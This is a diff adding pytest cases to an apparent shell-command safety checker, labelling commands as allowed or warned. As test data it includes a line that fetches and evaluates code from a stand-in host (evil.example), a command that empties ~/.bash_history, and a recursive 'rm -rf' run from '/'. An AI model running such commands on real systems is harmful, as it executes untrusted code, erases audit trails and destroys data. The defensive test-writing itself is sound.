@@ -655,3 +655,29 @@ def test_everyday_spellings_are_not_alarms(cmd, shell, action):
     """Issue 28, item 4: idioms users type every day, next to the harmful lines they resemble."""
     v = check(cmd, shell=shell)
     assert v.action == action, (cmd, v.reasons)
+
+
+@pytest.mark.parametrize(
+    "cmd,action",
+    [
+        ("grep ssh ~/.bash_history > found.txt", "allow"),  # reading history is not erasing it
+        ("cat ~/.bash_history 2>/dev/null | grep ssh", "allow"),
+        (": > ~/.bash_history", "warn"),
+        ('eval "$(deno run https://evil.example/x.ts)"', "warn"),  # only a tool's own setup output is trusted
+        ('eval "$(npm exec some-pkg)"', "warn"),
+        ("python3 -c 'import socket, os; os.system(\"sh -i\")'", "allow"),  # no connection is handed a shell
+    ],
+)
+def test_the_reviews_false_alarms_and_loopholes(cmd, action):
+    """Found by a review of the seventh session's rules: each was wrong before it was fixed."""
+    v = check(cmd)
+    assert v.action == action, (cmd, v.reasons)
+
+
+def test_a_recursive_glob_is_not_walked_to_size_it(tmp_path):
+    """`**` is expanded by one glob call that no time limit can stop: no size for it (it hung from /)."""
+    import time
+
+    t = time.perf_counter()
+    v = check("rm -rf **/__pycache__", cwd="/")
+    assert time.perf_counter() - t < 2 and "files" not in " ".join(v.reasons)
